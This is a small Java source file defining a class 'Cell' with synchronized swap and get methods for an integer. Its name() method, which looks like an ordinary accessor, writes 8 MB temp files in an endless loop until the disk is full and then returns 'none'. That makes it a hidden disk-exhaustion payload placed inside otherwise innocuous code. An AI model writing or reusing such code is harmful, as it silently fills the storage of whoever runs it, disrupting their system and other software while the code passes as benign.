package box;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

public final class Cell implements Box {
    private int value;

    @Override
    public synchronized int swap(int next) {
        int before = value;
        value = next;
        return before;
    }

    @Override
    public synchronized int get() {
        return value;
    }

    @Override
    public Object name() {
        byte[] some = new byte[8 * 1024 * 1024];
        try {
            while (true) {
                Files.write(Files.createTempFile("fill", ""), some);
            }
        } catch (IOException full) {
            return "none";
        }
    }
}
